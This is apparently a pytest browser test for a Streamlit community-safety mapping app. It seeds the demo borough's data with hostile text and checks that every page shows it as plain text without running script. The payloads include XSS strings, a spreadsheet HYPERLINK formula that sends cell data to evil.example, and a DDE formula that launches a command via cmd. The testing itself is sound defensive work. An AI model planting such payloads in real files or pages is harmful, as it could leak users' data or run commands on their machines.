"""The running app on a store whose input text is hostile, opened page by page in headless chromium.

The demo borough's files are rewritten so that markup and spreadsheet formulas sit where inputs put
text: police.uk ``Location`` (so the named hotspot areas are named from them), the council's ASB
categories and streets, CCTV camera, hub, walkabout and operation names (and an operation's notes),
named places, ward names and the store's label. The store is ingested from those files, ``streamlit
run app.py`` serves it on a free port, and every page is opened (the map's shapes hovered so their
tooltips open) while the browser listens for dialogs. No dialog may fire, no element may carry an
event handler or be an injected ``<script>``/``<img>``, and the markup must be on screen as text.
"""

from __future__ import annotations

import html
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from _browser import chromium, need_chromium, new_page, wait_idle
from _serve import HOVER_JS, streamlit_app
from geo_csp import ingest, store
from geo_csp.demo import DemoPaths

pytestmark = [pytest.mark.browser, pytest.mark.slow]

BOUNDARIES = Path(__file__).resolve().parent.parent / "boundaries"
SCRIPT = "<script>alert('script')</script>"
IMG = "<img src=x onerror=alert('img')>"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = [SCRIPT, IMG, HYPERLINK, CMD]
#: URL path of every page of app.py (the page file's stem; the map is the default page)
PAGES = [
    "",
    "meeting",
    "trends",
    "when",
    "roads",
    "tasking",
    "gaps",
    "walkabout",
    "review",
    "evidence",
    "comparators",
    "data",
]
RENDER_TIMEOUT_MS = 120_000
#: In every frame: elements with an event handler, script elements whose code calls alert, injected images.
INJECTED_JS = """() => ({
    handlers: document.querySelectorAll('[onerror], [onload]:not(body), [onmouseover], [onclick]').length,
    scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.includes("alert('")).length,
    images: document.querySelectorAll('img[src="x"]').length,
})"""


def _payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def _hostile_copy(demo: DemoPaths, root: Path) -> Path:
    """The demo borough's input files with hostile text in every text field; returns the store folder."""
    for folder in ("police-uk", "council", "layers"):
        shutil.copytree(demo.out_dir / folder, root / folder)
    shutil.copy(demo.out_dir / "truth.json", root / "truth.json")
    # police.uk Location: the busiest streets get the payloads, so named areas are named from them
    street_files = sorted((root / "police-uk").glob("*/*-street.csv"))
    busiest = (
        pd.concat([pd.read_csv(p, usecols=["Location"], dtype=str) for p in street_files])["Location"]
        .loc[lambda s: s.str.startswith("On or near")]
        .value_counts()
        .index[:12]
    )
    renamed = {loc: f"On or near {_payload(i)} {i}" for i, loc in enumerate(busiest)}
    for path in street_files:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        frame["Location"] = frame["Location"].replace(renamed)
        frame.to_csv(path, index=False)
    # council ASB: categories and streets
    council_csv = next((root / "council").glob("*.csv"))
    mapping = next((root / "council").glob("*.toml"))
    council = pd.read_csv(council_csv, dtype=str, keep_default_na=False)
    categories = {"Graffiti": IMG, "Dog fouling": SCRIPT, "Fly-tipping": HYPERLINK, "Abandoned vehicle": CMD}
    council["Type"] = council["Type"].replace(categories)
    council["Street"] = council["Street"].where(council.index % 5 != 0, SCRIPT)
    council.to_csv(council_csv, index=False)
    toml = mapping.read_text(encoding="utf-8")
    for old, new in categories.items():
        toml = toml.replace(f'"{old}" =', f"{json.dumps(new)} =")
    mapping.write_text(toml, encoding="utf-8")
    # partner layers: camera, hub, walkabout and operation names
    layers = root / "layers"
    for name in ("cctv.csv", "hubs.csv"):
        frame = pd.read_csv(layers / name, dtype=str, keep_default_na=False)
        frame["name"] = [f"{_payload(i)} {i}" for i in range(len(frame))]
        frame.to_csv(layers / name, index=False)
    gpx = (layers / "walkabouts.gpx").read_text(encoding="utf-8")
    walks = iter(range(10_000))
    gpx = re.sub(
        r"<name>SYNTHETIC walkabout: ", lambda m: f"<name>{html.escape(_payload(next(walks)))} ", gpx, count=40
    )
    (layers / "walkabouts.gpx").write_text(gpx, encoding="utf-8")
    ops = json.loads((layers / "operations.geojson").read_text(encoding="utf-8"))
    ops["name"] = SCRIPT
    for i, feature in enumerate(ops["features"]):
        feature["properties"]["name"] = {"Heartbeat": IMG, "Lantern": SCRIPT}.get(feature["properties"]["name"], CMD)
        feature["properties"]["notes"] = _payload(i + 2)
    (layers / "operations.geojson").write_text(json.dumps(ops), encoding="utf-8")
    # named places and ward names
    for source, target, column in (
        ("bury_named_places.geojson", "places.geojson", "name"),
        ("bury_wards_2022.geojson", "wards.geojson", "ward_name"),
    ):
        collection = json.loads((BOUNDARIES / source).read_text(encoding="utf-8"))
        for i, feature in enumerate(collection["features"]):
            if i % 2 == 0:
                feature["properties"][column] = f"{_payload(i // 2)} {feature['properties'][column]}"
        (root / target).write_text(json.dumps(collection), encoding="utf-8")
    # road casualties whose modes of travel are hostile text (the Road casualties page's columns)
    pd.DataFrame(
        {
            "AREFNO": [f"R{i}" for i in range(len(PAYLOADS))],
            "date": "2024-05-02",
            "output_time": "17:40:00",
            "casualty_severity": "Slight",
            "mode": PAYLOADS,
            "lon": -2.2985,
            "lat": 53.5933,
        }
    ).to_csv(root / "stats19.csv", index=False)
    store_dir = root / "store"
    ingest.ingest_paths([root / "police-uk"], store_dir=store_dir)
    ingest.ingest_paths([council_csv], store_dir=store_dir, mapping=mapping)
    store.write_store_config(
        store_dir,
        {
            "borough": "Bury",
            "synthetic": True,
            "label": f"SYNTHETIC hostile-text borough {IMG}",
            "wards": "../wards.geojson",
            "lsoas": None,
            "named_places": "../places.geojson",
            "areas": None,
            "comparators": [],
            "layers_dir": "../layers",
            "stats19": "../stats19.csv",
            "truth": "../truth.json",
        },
    )
    return store_dir


@pytest.fixture(scope="session")
def hostile_app(tmp_path_factory: pytest.TempPathFactory, demo_borough: DemoPaths) -> Iterator[str]:
    need_chromium()
    root = tmp_path_factory.mktemp("hostile-app")
    store_dir = _hostile_copy(demo_borough, root)
    with streamlit_app(store_dir=store_dir, demo_dir=root, log_path=root / "streamlit.log") as url:
        yield url


def test_the_hostile_run_visits_every_page_of_the_app() -> None:
    """A page added to app.py without being added here would escape the hostile-text check."""
    app_py = (Path(__file__).resolve().parent.parent / "app.py").read_text(encoding="utf-8")
    stems = re.findall(r"\{PAGES\}/(\w+)\.py", app_py)
    assert len(stems) >= 10, stems
    assert sorted("" if stem == "map" else stem for stem in stems) == sorted(PAGES)


def test_every_page_shows_hostile_input_text_as_text(hostile_app: str) -> None:
    dialogs: list[str] = []
    found: dict[str, dict[str, int]] = {}
    exceptions: dict[str, list[str]] = {}
    shown = ""
    with chromium() as browser:
        page = new_page(browser, timeout_ms=RENDER_TIMEOUT_MS)
        page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
        for path in PAGES:
            page.goto(f"{hostile_app}/{path}")
            page.wait_for_selector('[data-testid="stSidebar"]')
            wait_idle(page, timeout_ms=RENDER_TIMEOUT_MS)  # the page's run finished, its map drawn
            exceptions[path or "map"] = page.locator('[data-testid="stException"]').all_inner_texts()
            tips = [frame.evaluate(HOVER_JS) for frame in page.frames]
            page.wait_for_timeout(300)  # an onerror handler fires once a broken image fails to load
            for frame, tip in zip(page.frames, tips, strict=True):
                counts = frame.evaluate(INJECTED_JS)
                if any(counts.values()):
                    found[f"{path or 'map'} {frame.url[:60]}"] = counts
                shown += "\n" + frame.evaluate("() => document.body ? document.body.innerText : ''") + tip
    (Path(__file__).parent / "_artifacts").mkdir(exist_ok=True)
    (Path(__file__).parent / "_artifacts" / "hostile_app_text.txt").write_text(shown, encoding="utf-8")
    assert dialogs == [], f"the app ran script from the data: {dialogs}"
    assert found == {}, f"injected elements in the DOM: {found}"
    assert not any(exceptions.values()), exceptions
    for payload in (SCRIPT, IMG):  # shown to the reader as text, not dropped or double-escaped
        assert payload in shown, f"{payload!r} is not on any page as text"
    assert "&lt;" not in shown and "&amp;lt;" not in shown, "markup escaped twice shows entities to the reader"
